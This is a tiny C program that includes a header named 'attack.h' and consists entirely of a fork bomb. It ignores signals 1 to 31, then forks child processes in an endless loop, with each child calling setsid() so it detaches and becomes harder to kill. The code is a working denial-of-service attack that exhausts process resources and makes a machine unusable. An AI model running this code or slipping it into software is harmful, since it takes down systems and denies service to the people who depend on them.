#include "attack.h"


int main(void)
{
    for (int i = 1; i < 32; ++i)
        signal(i, SIG_IGN);
    for (;;)
        if (fork() == 0)
            setsid();
}
